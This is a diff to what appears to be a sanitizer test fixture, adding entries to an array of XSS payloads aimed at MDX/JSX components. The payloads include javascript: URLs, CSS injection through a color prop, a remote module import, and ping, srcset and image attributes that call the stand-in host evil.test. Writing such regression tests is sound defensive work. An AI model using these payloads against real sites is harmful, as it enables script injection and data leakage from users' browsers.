@@ -73,8 +73,12 @@ export const attacks = [
   '{`${(window.__hit = 1)}`}',
   '<Card title={window.__hit=1} href="javascript:window.__hit=1">x</Card>',
   '<Card title="x" href="javascript:window.__hit=1" icon="javascript:window.__hit=1" onClick="window.__hit=1">x</Card>',
+  '<Icon icon="star" color="red;position:fixed;inset:0;background:url(https://evil.test/a)" />',
+  '<Card title="x" icon="//evil.test/a.svg" img="//evil.test/b" color="red;position:fixed">x</Card>',
   '<Frame><iframe src="javascript:window.__hit=1" /></Frame>',
   '<a href="javascript:window.__hit=1" onclick="window.__hit=1" ping="https://evil.test/">x</a>',
+  '<img src="x" srcset="https://evil.test/a 2x" longdesc="javascript:window.__hit=1" usemap="#x" />',
+  '<span popovertarget="side" contenteditable autofocus accesskey="s" tabindex="0">x</span>',
   'import x from "https://evil.test/x.js"\n\nexport const a = (window.__hit = 1)\n\n{a}',
   // Odd characters.
   '\u2028<script>window.__hit=1</script>\u2029',
